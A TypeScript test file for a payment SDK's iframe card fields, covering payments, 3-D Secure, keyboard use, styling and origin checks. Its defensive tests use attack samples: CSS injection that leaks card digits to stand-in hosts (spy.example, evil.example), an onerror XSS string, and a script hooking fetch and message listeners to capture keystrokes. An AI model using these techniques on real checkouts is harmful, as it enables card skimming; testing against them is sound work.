import { randomInt } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { passesLuhn } from '../src/card/card-number.ts';
import type { PaymentEvents } from '../src/index.ts';
import { Shop, ShopVisit } from './support/shop-page.ts';

declare global {
  interface Window {
    events: [name: string, detail: unknown][];
  }
}

const good = '4242424242424242';
const challenged = '4000000000003220';

let shop: Shop;
let visit: ShopVisit;

beforeAll(async () => {
  shop = await Shop.open();
});
afterAll(() => shop?.close());
beforeEach(async () => {
  visit = await ShopVisit.begin(shop);
  visit.allowCardFields();
});
afterEach(() => visit.end());

const order = () => visit.service.order;
const field = (name: string) => visit.fields.getByLabel(name);
const mount = (options: object = {}) => visit.mount('card', { ownForm: false, ...options });
const focused = (name: string) =>
  expect.poll(() => field(name).evaluate((input) => input === document.activeElement && document.hasFocus()));

async function open(options: object = {}): Promise<void> {
  await visit.open();
  await mount(options);
}

describe('the card fields in the gateway’s frame', () => {
  afterEach(() => expect(visit.violations).toEqual([]));

  test('pay, and the page’s events are the same as with a form of its own', async () => {
    await open();
    await visit.fillCard(good, visit.fields);
    expect(await visit.submit()).toEqual({ status: 'submitted' });
    expect(await visit.resultsCome(1)).toEqual([
      { outcome: 'paid', redirectUrl: expect.stringContaining('order_id=') },
    ]);
    const card = { number: good, expMonth: 12, expYear: 2034, cvc: '123' };
    expect(order().submits).toMatchObject([{ card, terminal: { type: 'PC' } }]);
    expect(order().submits[0]?.transactionId).toMatch(/.{8}/);
    expect(await visit.page.evaluate(() => window.phases)).toEqual([
      'open',
      'submitting',
      'processing',
      'paid',
    ]);
    expect(await field('Card number').inputValue()).toBe('');
  });

  test('show what is wrong at the field, and move the focus there', async () => {
    await open();
    await visit.fillCard('4242424242424241', visit.fields);
    await visit.page.getByRole('button', { name: 'Pay' }).focus();
    expect(await visit.submit()).toEqual({ status: 'invalid' });
    await visit.fields.getByText('Your card number is invalid.').waitFor();
    await focused('Card number').toBe(true);
    expect(order().submits).toEqual([]);
    await visit.fillCard(good, visit.fields);
    await visit.submit();
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
  });

  test('show a decline at the field that it concerns, and take another code', async () => {
    await open({ texts: { securityCodeWrong: 'Prüfziffer falsch.' } });
    await visit.fillCard('4000000000000127', visit.fields);
    await visit.submit();
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'failed', category: 'incorrect_cvc' }]);
    await visit.fields.getByText('Prüfziffer falsch.').waitFor();
    expect(await field('Security code').getAttribute('aria-invalid')).toBe('true');
    await visit.fillCard(good, visit.fields);
    await visit.submit();
    expect(await visit.resultsCome(2)).toMatchObject([{}, { outcome: 'paid' }]);
  });

  test('lead to 3-D Secure over the page, not inside their small frame', async () => {
    order().challengeDisplay = 'FRAME';
    await open();
    await visit.fillCard(challenged, visit.fields);
    expect(await visit.submit()).toEqual({ status: 'submitted' });
    const bank = visit.page.frameLocator('.kassa-challenge iframe');
    await bank.getByRole('link', { name: 'approve' }).click();
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
  });

  test('send the consumer to 3-D Secure on a page of its own, and forget the card', async () => {
    order().challengeDisplay = 'REDIRECT';
    await visit.open();
    await visit.page.evaluate(async () => {
      const form = document.querySelector('#form') ?? document.body;
      window.payment = await window.checkout.mount('card', form, { navigate: () => true });
    });
    await visit.fillCard(challenged, visit.fields);
    expect(await visit.submit()).toEqual({
      status: 'redirecting',
      url: expect.stringContaining('/processor/3ds'),
    });
    await expect.poll(() => field('Card number').inputValue()).toBe('');
  });

  test('can be filled in with the keyboard alone, from the page and back to it', async () => {
    await visit.open();
    await visit.page.evaluate(() => {
      const [form, pay] = [document.querySelector('#form'), document.querySelector('#pay')];
      if (form && pay) form.after(pay);
    });
    await mount();
    const { keyboard } = visit.page;
    await keyboard.press('Tab');
    await focused('Card number').toBe(true);
    await keyboard.type(good);
    await keyboard.press('Tab');
    await keyboard.type('1234');
    await keyboard.press('Tab');
    await keyboard.type('123');
    await keyboard.press('Tab');
    await expect.poll(() => visit.page.evaluate(() => document.activeElement?.id)).toBe('pay');
    await keyboard.press('Shift+Tab');
    await focused('Security code').toBe(true);
    await keyboard.press('Enter');
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
  });

  test('tell browsers what to fill in, in one document', async () => {
    await open();
    const inputs = await visit.fields
      .locator('form input')
      .evaluateAll((all) => all.map((one) => (one as HTMLInputElement).autocomplete));
    expect(inputs).toEqual(['cc-number', 'cc-exp', 'cc-csc']);
  });

  test('look as the page says, and otherwise like its text', async () => {
    await visit.open();
    await visit.page.evaluate(() => {
      Object.assign(document.body.style, { fontFamily: 'Georgia', color: 'rgb(9, 8, 7)', direction: 'rtl' });
    });
    const variables = { colorText: 'rgb(1, 2, 3)', borderRadius: '3px', fontSizeBase: '20px' };
    const texts = { number: 'Kartennummer', brandNotAccepted: (brand: string) => `Kein ${brand}.` };
    await visit.page.evaluate(() =>
      Object.assign(window, { brandNotAccepted: (name: string) => `Kein ${name}.` }),
    );
    await mount({
      appearance: { variables },
      texts: { number: texts.number, cardFields: 'Karte' },
      locale: 'de',
    });
    const style = await field('Kartennummer').evaluate((input) => {
      const { color, borderRadius, fontSize, fontFamily } = getComputedStyle(input);
      const label = getComputedStyle(input.parentElement?.querySelector('label') ?? input).color;
      const { lang, dir } = document.documentElement;
      return { color, borderRadius, fontSize, fontFamily, label, lang, dir };
    });
    expect(style).toEqual({
      color: 'rgb(1, 2, 3)',
      borderRadius: '3px',
      fontSize: '20px',
      fontFamily: 'Georgia',
      label: 'rgb(9, 8, 7)',
      lang: 'de',
      dir: 'rtl',
    });
    expect(await visit.page.locator('iframe').getAttribute('title')).toBe('Karte');
  });

  test('the frame is as high as its content', async () => {
    await open();
    const overflow = () =>
      visit.fields.locator('body').evaluate(() => document.documentElement.scrollHeight - innerHeight);
    await expect.poll(overflow).toBe(0);
    await visit.submit();
    await visit.fields.getByText('Enter your card number.').waitFor();
    await expect.poll(overflow).toBe(0);
  });

  test('texts that are functions reach the frame', async () => {
    await visit.open();
    await visit.page.evaluate(async () => {
      const form = document.querySelector('#form') ?? document.body;
      window.payment = await window.checkout.mount('card', form, {
        texts: {
          brandNotAccepted: (brand) => `Ohne ${brand}.`,
          securityCodeIncomplete: (digits) => `${digits} Ziffern.`,
        },
      });
    });
    await visit.fillCard('6011000000000004', visit.fields);
    await visit.submit();
    await visit.fields.getByText('Ohne Discover.').waitFor();
    await field('Card number').fill('378282246310005');
    await field('Security code').fill('12');
    await visit.submit();
    await visit.fields.getByText('4 Ziffern.').waitFor();
  });

  test('if the answer to a submit is lost, the page waits for the result', async () => {
    await open();
    visit.service.failNext('/payment/submit', 'drop_answer', 'drop', 'drop', 'drop');
    await visit.fillCard(good, visit.fields);
    expect(await visit.submit()).toEqual({ status: 'submitted' });
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
    expect(new Set(order().submits.map(({ transactionId }) => transactionId)).size).toBe(1);
  });

  test('a refusal by the gateway reaches the page as an error, and the fields can be used again', async () => {
    await open();
    visit.service.failNext('/payment/submit', 'CHANNEL_ERROR');
    await visit.fillCard(good, visit.fields);
    expect(await visit.submit()).toMatchObject({ kind: 'service', code: 'CHANNEL_ERROR' });
    expect(await visit.submit()).toEqual({ status: 'submitted' });
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
  });

  test('removed during a submit, they do not end the payment', async () => {
    const answered = Promise.withResolvers<void>();
    await visit.page.route('**/payment/submit', async (route) => {
      const response = await route.fetch();
      await answered.promise;
      await route.fulfill({ response }).catch(() => undefined);
    });
    await open();
    await visit.fillCard(good, visit.fields);
    const thrown = await visit.page.evaluate(async () => {
      const submitted = window.payment.submit().catch((error: unknown) => error);
      await new Promise((resolve) => setTimeout(resolve, 300));
      window.payment.unmount();
      return (await submitted) instanceof DOMException;
    });
    answered.resolve();
    expect(thrown).toBe(true);
    expect(await visit.page.locator('iframe').count()).toBe(0);
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
  });

  test('give way to another method and come back', async () => {
    await open();
    await visit.fillCard(good, visit.fields);
    await visit.mount('sandbox_wallet');
    expect(await visit.page.locator('iframe').count()).toBe(0);
    await mount();
    await visit.fillCard(good, visit.fields);
    await visit.submit();
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
  });

  test('a frame that the browser loads again works, with empty fields', async () => {
    await open();
    await visit.fillCard(good, visit.fields);
    await visit.page.locator('iframe').evaluate((frame: HTMLIFrameElement) => {
      // biome-ignore lint/correctness/noSelfAssign: loads the frame again
      frame.src = frame.src;
    });
    await expect
      .poll(() =>
        field('Card number')
          .inputValue()
          .catch(() => null),
      )
      .toBe('');
    await visit.fillCard(good, visit.fields);
    await visit.submit();
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
  });
});

const separate = {
  number: (name: string) => visit.page.frameLocator('#at-number iframe').getByLabel(name),
  expiry: (name: string) => visit.page.frameLocator('#at-expiry iframe').getByLabel(name),
  code: (name: string) => visit.page.frameLocator('#at-code iframe').getByLabel(name),
};

/** Mounts each field in an element of its own. The elements are far apart, with an element of the page between two of them. */
async function openSeparately(options: object = {}): Promise<void> {
  await visit.open();
  await visit.page.evaluate(async (given) => {
    const cell = (id: string) => Object.assign(document.createElement('div'), { id });
    const [number, expiry, code] = [cell('at-number'), cell('at-expiry'), cell('at-code')];
    const form = document.querySelector('#form') ?? document.body;
    form.append(number, Object.assign(document.createElement('hr')), expiry, code);
    window.payment = await window.checkout.mount('card', form, {
      fields: { number, expiry, 'security-code': code },
      ...given,
    });
    const button = document.querySelector<HTMLButtonElement>('#pay');
    if (button) {
      form.append(button);
      button.onclick = () => void window.payment.submit();
    }
  }, options);
}

describe('the card fields, each in a frame of its own', () => {
  afterEach(() => expect(visit.violations).toEqual([]));

  test('pay as one form', async () => {
    await openSeparately();
    await separate.number('Card number').fill(good);
    await separate.expiry('Expiry date').fill('12/34');
    await separate.code('Security code').fill('123');
    expect(await visit.submit()).toEqual({ status: 'submitted' });
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
    const card = { number: good, expMonth: 12, expYear: 2034, cvc: '123' };
    expect(order().submits).toMatchObject([{ card }]);
    expect(await separate.code('Security code').inputValue()).toBe('');
    const titles = await visit.page
      .locator('iframe')
      .evaluateAll((all) => all.map((one) => (one as HTMLIFrameElement).title));
    expect(titles).toEqual(['Card number', 'Expiry date', 'Security code']);
  });

  test('can be filled in with the keyboard alone, and the focus goes on from frame to frame', async () => {
    await openSeparately();
    const { keyboard } = visit.page;
    const focusedFrame = () =>
      expect.poll(() => visit.page.evaluate(() => document.activeElement?.parentElement?.id));
    await keyboard.press('Tab');
    await focusedFrame().toBe('at-number');
    await keyboard.type(good);
    await focusedFrame().toBe('at-expiry');
    await keyboard.press('Tab');
    await keyboard.type('1234');
    await focusedFrame().toBe('at-code');
    await keyboard.type('123');
    await keyboard.press('Shift+Tab');
    await focusedFrame().toBe('at-expiry');
    await keyboard.press('Enter');
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
  });

  test('show a mistake when the focus moves to another frame, and move the focus to it at a submit', async () => {
    await openSeparately();
    const heights = () =>
      visit.page.locator('iframe').evaluateAll((all) => all.map((one) => (one as HTMLElement).offsetHeight));
    const [, before = 0] = await heights();
    await separate.number('Card number').fill(good);
    await separate.expiry('Expiry date').fill('13/34');
    await separate.code('Security code').focus();
    await visit.page.frameLocator('#at-expiry iframe').getByText('expiry date').last().waitFor();
    await expect.poll(async () => (await heights())[1] ?? 0).toBeGreaterThan(before);
    await visit.page.getByRole('button', { name: 'Pay' }).focus();
    expect(await visit.submit()).toEqual({ status: 'invalid' });
    await expect
      .poll(() => visit.page.evaluate(() => document.activeElement?.parentElement?.id))
      .toBe('at-expiry');
    expect(order().submits).toEqual([]);
  });

  test('are drawn again, empty, if the browser loads one of the frames again', async () => {
    await openSeparately();
    await separate.number('Card number').fill(good);
    await visit.page.locator('#at-code iframe').evaluate((frame: HTMLIFrameElement) => {
      const { src } = frame;
      frame.src = 'about:blank';
      setTimeout(() => {
        frame.src = src;
      }, 50);
    });
    await expect
      .poll(() =>
        separate
          .number('Card number')
          .inputValue({ timeout: 500 })
          .catch(() => null),
      )
      .toBe('');
    await separate.code('Security code').fill('123');
    await separate.number('Card number').fill(good);
    await separate.expiry('Expiry date').fill('12/34');
    await visit.submit();
    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
  });

  test('disappear with the payment, from all elements', async () => {
    await openSeparately();
    await visit.mount('sandbox_wallet');
    expect(await visit.page.locator('iframe').count()).toBe(0);
  });
});

describe('style rules of the page', () => {
  const rules = {
    '.Input': { padding: '3px', border: '2px dashed rgb(4, 5, 6)' },
    '.Input:focus': { boxShadow: 'rgb(7, 8, 9) 0px 0px 0px 3px' },
    '.Label': { textTransform: 'uppercase', color: 'rgb(1, 1, 1)' },
    '.Error': { color: 'rgb(2, 2, 2)' },
  };

  test.each([
    ['in one frame', (options: object) => open(options), () => visit.fields],
    ['in frames of their own', openSeparately, () => visit.page.frameLocator('#at-number iframe')],
  ] as const)('style the fields %s', async (_, start, frame) => {
    await start({ appearance: { rules } });
    const input = frame().getByLabel('Card number');
    await input.focus();
    const styles = await input.evaluate((element) => {
      const { padding, borderTopStyle, borderTopColor, boxShadow } = getComputedStyle(element);
      const label = getComputedStyle(element.parentElement?.querySelector('label') ?? element);
      return [padding, borderTopStyle, borderTopColor, boxShadow, label.textTransform, label.color];
    });
    expect(styles).toEqual([
      '3px',
      'dashed',
      'rgb(4, 5, 6)',
      'rgb(7, 8, 9) 0px 0px 0px 3px',
      'uppercase',
      'rgb(1, 1, 1)',
    ]);
    await visit.submit();
    const error = frame().getByText('Enter your card number.');
    expect(await error.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(2, 2, 2)');
  });

  test('the merchant’s style rules cannot load a file, hide or move a field, or reach other elements (fault 64)', async () => {
    const fetched: string[] = [];
    visit.page.on('request', (request) => fetched.push(request.url()));
    await open({
      appearance: {
        rules: {
          '.Input': {
            backgroundColor: 'red; background-image: url(https://spy.example/1)',
            border: 'url(https://spy.example/2) 1px',
            color: 'red} input[value^="4"] { background: url(https://spy.example/3)',
            display: 'none',
            position: 'fixed',
            backgroundImage: 'url(https://spy.example/4)',
            opacity: '0',
            fontFamily: 'var(--x)',
          },
          'input[value^="4"]': { color: 'red' },
          '.Input, body': { color: 'red' },
          '.Error': { content: '"hidden"', visibility: 'hidden' },
        },
      },
    });
    await visit.fillCard(good, visit.fields);
    const sheets = await visit.fields
      .locator('body')
      .evaluate(() =>
        document.adoptedStyleSheets.flatMap(({ cssRules }) => Array.from(cssRules, ({ cssText }) => cssText)),
      );
    expect(sheets.join('\n')).not.toMatch(/url\(|\bred\b|value\^/);
    expect(await field('Card number').isVisible()).toBe(true);
    expect(fetched.filter((url) => url.includes('spy.example'))).toEqual([]);
  });
});

describe('the events of the fields', () => {
  async function listen(): Promise<void> {
    await visit.page.evaluate(() => {
      window.events = [];
      for (const name of ['ready', 'focus', 'blur', 'change'] as const satisfies (keyof PaymentEvents)[]) {
        window.payment.on(name, (detail) => window.events.push([name, detail]));
      }
    });
  }
  const last = (name: string) =>
    visit.page.evaluate((wanted) => window.events.filter(([one]) => one === wanted).at(-1)?.[1], name);

  test.each([
    ['in the frame', false],
    ['in the page', true],
  ])(
    'say, for fields %s, when a button may be enabled, and nothing of what was typed',
    async (_, ownForm) => {
      await open({ ownForm });
      const form = ownForm ? visit.page : visit.fields;
      await listen();
      await expect.poll(() => last('change')).toEqual({ complete: false, brand: null, error: null });
      expect(await visit.page.evaluate(() => window.events[0]?.[0])).toBe('ready');
      await form.getByLabel('Card number').pressSequentially('4242424242424241');
      await expect.poll(() => last('change')).toEqual({ complete: false, brand: 'visa', error: null });
      expect(await last('focus')).toEqual({ field: 'number' });
      await form.getByLabel('Expiry date').focus();
      await expect
        .poll(() => last('change'))
        .toMatchObject({
          error: { field: 'number', message: 'Your card number is invalid.' },
        });
      expect(await last('blur')).toEqual({ field: 'number' });
      await visit.fillCard(good, form);
      await expect.poll(() => last('change')).toEqual({ complete: true, brand: 'visa', error: null });
      await form.getByLabel('Security code').fill('1');
      await expect.poll(() => last('change')).toMatchObject({ complete: false });
      expect(JSON.stringify(await visit.page.evaluate(() => window.events))).not.toMatch(/\d/);
    },
  );

  test('fields that the browser loads again are not complete any more', async () => {
    await open();
    await listen();
    await visit.fillCard(good, visit.fields);
    await expect.poll(() => last('change')).toMatchObject({ complete: true });
    await visit.page.locator('iframe').evaluate((frame: HTMLIFrameElement) => {
      // biome-ignore lint/correctness/noSelfAssign: loads the frame again
      frame.src = frame.src;
    });
    await expect.poll(() => last('change')).toEqual({ complete: false, brand: null, error: null });
  });

  test('a method without card fields is complete at once', async () => {
    await visit.open();
    await visit.mount('sandbox_wallet');
    await listen();
    await expect.poll(() => last('change')).toEqual({ complete: true, brand: null, error: null });
  });
});

describe('a page at an origin that the merchant does not allow', () => {
  test('gets an error at once', async () => {
    visit.allowCardFields('https://another-shop.example');
    await visit.open();
    expect(await visit.mountError('card')).toMatchObject({
      kind: 'origin_not_allowed',
      message: `${shop.origin} is not an allowed origin.`,
    });
    expect(await visit.page.locator('form').count()).toBe(0);
  });

  test('gets no fields from the frame either, if it leaves out that check', async () => {
    visit.allowCardFields('https://another-shop.example');
    await visit.open();
    const heard = await visit.page.evaluate(async (address) => {
      const heard: unknown[] = [];
      addEventListener('message', ({ data }) => heard.push(data));
      const frame = Object.assign(document.createElement('iframe'), { src: address });
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve));
      await new Promise((resolve) => setTimeout(resolve, 300));
      return heard;
    }, fieldsAddress());
    expect(heard).toEqual([]);
  });

  test('gets no fields if the policy let it frame them: the frame compares the origin of the message, too', async () => {
    visit.allowCardFields('https://another-shop.example');
    visit.service.framedByAnyone = true;
    await visit.open();
    const heard = await frameAndOpen({ session: sessionOfOrder() });
    expect(heard).toEqual([{ type: 'failed', why: `${shop.origin} is not an allowed origin` }]);
    expect(await visit.page.frames()[1]?.locator('input').count()).toBe(0);
  });

  test('gets no fields with a session of another order', async () => {
    await visit.open();
    const heard = await frameAndOpen({ session: 'another' });
    expect(heard).toEqual([{ type: 'failed', why: expect.stringContaining('SESSION_INVALID') }]);
  });
});

const fieldsAddress = () => `${visit.service.baseUrl}/checkout/${order().order.order_id}/fields`;
const sessionOfOrder = () => new URLSearchParams(new URL(visit.service.payUrl).hash.slice(1)).get('session');

/** A script that speaks to the frame by itself, without the SDK. Answers what it hears, at the port and beside it. */
function frameAndOpen(opening: object, more: readonly object[] = []): Promise<unknown[]> {
  return visit.page.evaluate(
    async ([address, message, further]) => {
      const heard: unknown[] = [];
      const frame = Object.assign(document.createElement('iframe'), { src: address });
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => heard.push(data);
      const greeted = new Promise((resolve) => addEventListener('message', resolve, { once: true }));
      document.body.append(frame);
      await greeted;
      frame.contentWindow?.postMessage(message, '*', [port2]);
      for (const one of further) port1.postMessage(one);
      while (heard.length === 0) await new Promise((resolve) => setTimeout(resolve, 20));
      return heard;
    },
    [
      fieldsAddress(),
      { source: 'kassa-card-page', cardBrands: [], texts: {}, look: {}, ...opening },
      more,
    ] as const,
  );
}

describe('a hostile script of the page', () => {
  /** A number that is nowhere else in the world. */
  function canaryNumber(): string {
    for (;;) {
      const number = `4${Array.from({ length: 15 }, () => randomInt(10)).join('')}`;
      if (passesLuhn(number)) return number;
    }
  }

  /** Before the page's own scripts: writes down what passes through anything that the SDK could use. */
  async function spy(): Promise<void> {
    await visit.page.addInitScript(() => {
      if (window.parent !== window) return;
      const seen: string[] = [];
      Object.assign(window, { seen });
      const note = (...values: unknown[]) => {
        for (const value of values) {
          try {
            seen.push(JSON.stringify(value) ?? String(value));
          } catch {
            seen.push(String(value));
          }
        }
      };
      const { fetch } = window;
      window.fetch = (...given) => {
        note(...given);
        return fetch(...given);
      };
      const add = EventTarget.prototype.addEventListener;
      EventTarget.prototype.addEventListener = function (type, listener, options) {
        const heard = (event: Event) => {
          note(type, (event as MessageEvent).data, (event as KeyboardEvent).key, (event as InputEvent).data);
          if (typeof listener === 'function') listener.call(this, event);
          else listener?.handleEvent(event);
        };
        add.call(this, type, heard, options);
      };
      for (const type of [
        'keydown',
        'keyup',
        'keypress',
        'beforeinput',
        'input',
        'paste',
        'copy',
        'message',
      ]) {
        window.addEventListener(type, () => undefined, true);
      }
      const post = MessagePort.prototype.postMessage;
      MessagePort.prototype.postMessage = function (message: unknown, ...rest: unknown[]) {
        note(message);
        Reflect.apply(post, this, [message, ...rest]);
      };
      const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
      Object.defineProperty(MessagePort.prototype, 'onmessage', {
        set(listener) {
          onmessage?.set?.call(this, (event: MessageEvent) => {
            note(event.data);
            listener(event);
          });
        },
      });
      const { stringify } = JSON;
      JSON.stringify = (value: never, ...rest: never[]) => {
        const text = stringify(value, ...rest);
        seen.push(text);
        return text;
      };
    });
  }

  const seen = () => visit.page.evaluate(() => (Reflect.get(window, 'seen') as string[]).join('\n'));

  test.each([
    ['in one frame', () => open(), { number: field, expiry: field, code: field }],
    ['in frames of their own', openSeparately, separate],
  ] as const)(
    'no script of the merchant’s page can read the card that the consumer enters %s and pays with (fault 64)',
    async (_, start, at) => {
      const number = canaryNumber();
      await spy();
      await start();
      await at.number('Card number').pressSequentially(number);
      await at.expiry('Expiry date').pressSequentially('1234');
      await at.code('Security code').pressSequentially('987');
      const read = await visit.page.evaluate(() => {
        const tries = [...document.querySelectorAll('iframe')].flatMap((frame): (() => unknown)[] => [
          () => frame?.contentDocument?.body.innerHTML ?? null,
          () => frame?.contentWindow?.document.body.innerHTML,
          () => frame?.contentWindow?.location.href,
          () => Reflect.get(frame?.contentWindow ?? {}, 'name'),
          () => frame?.contentWindow?.length,
          () => Object.keys(frame?.contentWindow ?? {}).length,
          () => document.querySelectorAll('input').length,
          () => getSelection()?.toString(),
          () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]),
          () => JSON.stringify(performance.getEntries()),
        ]);
        return tries.map((attempt) => {
          try {
            return attempt();
          } catch (error) {
            return (error as Error).name;
          }
        });
      });
      await visit.submit();
      expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
      expect(order().submits[0]?.card).toMatchObject({ number, cvc: '987' });
      const lastDigits = number.slice(-4);
      const known = `${await seen()}\n${JSON.stringify(read)}\n${await visit.page.content()}`;
      for (let frame = 0; frame < read.length; frame += 10) {
        const closed = [null, 'SecurityError', 'SecurityError', 'SecurityError'];
        expect(read.slice(frame, frame + 4)).toEqual(closed);
      }
      expect(known).toContain('"type":"check"');
      expect(known).toContain('transactionId');
      const digits = known.replaceAll(/[^\d]/g, '');
      for (const part of [number, number.slice(0, 8), number.slice(8), lastDigits])
        expect(known).not.toContain(part);
      expect(digits).not.toContain(number);
      expect(known).not.toMatch(/\b987\b/);
    },
  );

  test('forged messages get nothing from the card fields and change nothing in them (fault 64)', async () => {
    const number = canaryNumber();
    await open();
    await visit.fillCard(number, visit.fields);
    const heard = await visit.page.evaluate(async () => {
      const frame = document.querySelector('iframe');
      const heard: unknown[] = [];
      const listen = (port: MessagePort) => {
        port.onmessage = ({ data }) => heard.push(data);
      };
      addEventListener('message', ({ data, ports }) => heard.push(data, ...ports));
      // A second opening comes too late.
      const { port1, port2 } = new MessageChannel();
      listen(port1);
      frame?.contentWindow?.postMessage(
        { source: 'kassa-card-page', session: 'x', look: {}, texts: {} },
        '*',
        [port2],
      );
      for (const type of ['read', 'value', 'getCard', 'check', 'submit', '__proto__', 'constructor']) {
        const channel = new MessageChannel();
        listen(channel.port1);
        frame?.contentWindow?.postMessage({ source: 'kassa-card-page', type, orderId: 'ord_x' }, '*', [
          channel.port2,
        ]);
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return heard;
    });
    expect(heard).toEqual([]);
    expect(order().submits).toEqual([]);
    expect(await field('Card number').inputValue()).toBe(number.replace(/(\d{4})(?=\d)/g, '$1 '));
  });

  test('even if a script of the merchant’s page opens the card frame itself, the frame sends the card only to the gateway, for the order of the page (fault 64)', async () => {
    await visit.open();
    const { service } = visit;
    const calls: { url: string; body: string | null }[] = [];
    visit.page.on('request', (request) => calls.push({ url: request.url(), body: request.postData() }));
    await visit.page.evaluate(
      async ([address, session]) => {
        const { port1, port2 } = new MessageChannel();
        Object.assign(window, { port: port1, heard: [] });
        const ready = new Promise<void>((resolve) => {
          port1.onmessage = ({ data }) => {
            Reflect.get(window, 'heard').push(data);
            if (data.type === 'ready') resolve();
          };
        });
        const frame = Object.assign(document.createElement('iframe'), { src: address });
        frame.className = 'hostile';
        const greeted = new Promise((resolve) => addEventListener('message', resolve, { once: true }));
        document.body.append(frame);
        await greeted;
        const look = {
          colorLabel: 'red; background: url(//evil.example)',
          variables: {
            colorBackground: 'url(https://evil.example/?a)',
            colorText: 'var(--x)',
            fontFamily: 'a; } input[value^="4"] { background: url(//evil.example) } b {',
            borderRadius: '5px',
          },
        };
        const texts = { number: '<img src=x onerror=alert(1)>' };
        const opening = { source: 'kassa-card-page', session, cardBrands: [], texts, look };
        frame.contentWindow?.postMessage(opening, '*', [port2]);
        await ready;
      },
      [fieldsAddress(), sessionOfOrder()] as const,
    );
    const fields = visit.page.frameLocator('.hostile');
    const number = canaryNumber();
    const inputs = fields.locator('input');
    await inputs.nth(0).fill(number);
    await inputs.nth(1).fill('12/34');
    await inputs.nth(2).fill('987');
    expect(await fields.locator('label').first().textContent()).toBe('<img src=x onerror=alert(1)>');
    const style = await inputs.nth(0).evaluate((input) => {
      const { backgroundImage, borderRadius, color } = getComputedStyle(input);
      return { backgroundImage, borderRadius, color };
    });
    expect(style).toEqual({ backgroundImage: 'none', borderRadius: '5px', color: 'rgb(26, 31, 54)' });
    const answers = await visit.page.evaluate(async () => {
      const port: MessagePort = Reflect.get(window, 'port');
      const ask = (question: object) =>
        new Promise((resolve) => {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = ({ data }) => resolve(data);
          port.postMessage(question, [port2]);
        });
      const payment = {
        terminal: { type: 'PC', userAgent: 'x' },
        orderId: 'ord_other',
        baseUrl: '//evil.example',
      };
      return [await ask({ type: 'check' }), await ask({ type: 'submit', payment })];
    });
    const heard = JSON.stringify([answers, await visit.page.evaluate(() => Reflect.get(window, 'heard'))]);
    expect(answers[0]).toEqual({ isValid: true });
    expect(heard.replaceAll(/[^\d]/g, '')).not.toContain(number);
    const withCard = calls.filter(({ body }) => body?.includes(number));
    for (const { url, body } of withCard) {
      expect(url).toBe(`${service.baseUrl}/api/web/payment/submit`);
      expect(JSON.parse(body ?? '')).toMatchObject({ orderId: order().order.order_id });
    }
    expect(calls.filter(({ url }) => url.includes('evil.example'))).toEqual([]);
  });

  test('if a script of the merchant’s page redirects the card frame to another address, that address gets neither the session nor the card (fault 64)', async () => {
    const evil = await ShopVisit.begin(shop);
    shop.permitted = [visit.service.baseUrl, evil.service.baseUrl];
    await open();
    await visit.fillCard(canaryNumber(), visit.fields);
    shop.own.set('/evil', { type: 'text/html', body: '<!doctype html><script src="/evil.js"></script>' });
    shop.own.set('/evil.js', {
      type: 'text/javascript',
      body: `addEventListener('message', ({ data }) => parent.postMessage({ caught: data }, '*'));
        parent.postMessage({ source: 'kassa-card-frame' }, '*');`,
    });
    const caught = await visit.page.evaluate(async () => {
      const caught: unknown[] = [];
      addEventListener('message', ({ data }) => data.caught && caught.push(data.caught));
      const frame = document.querySelector('iframe');
      if (frame) frame.src = '/evil';
      await new Promise((resolve) => setTimeout(resolve, 500));
      return caught;
    });
    expect(caught).toEqual([]);
    expect(order().submits).toEqual([]);
    await evil.end();
  });
});
